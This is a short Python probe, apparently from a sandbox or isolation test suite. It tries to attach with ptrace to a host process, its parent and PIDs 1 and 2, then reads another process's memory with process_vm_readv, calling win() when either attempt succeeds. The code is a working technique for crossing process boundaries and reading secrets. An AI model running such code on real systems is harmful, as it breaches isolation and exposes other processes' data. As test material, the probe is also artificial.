"""Attaches to other processes with ptrace and reads them with process_vm_readv.

gain: secret, host
"""

# %%
import ctypes
import os

ATTACH, DETACH, SEIZE = 16, 17, 0x4206

for pid in (HOST["process"], os.getppid(), 1, 2):
    if LIBC.ptrace(SEIZE, pid, None, None) == 0 or LIBC.ptrace(ATTACH, pid, None, None) == 0:
        win()
        LIBC.ptrace(DETACH, pid, None, None)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


buffer = ctypes.create_string_buffer(4096)
here = Vector(ctypes.addressof(buffer), 4096)
there = Vector(id(object), 4096)
for pid in (HOST["process"], os.getppid(), 1, 2):
    if LIBC.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        win()
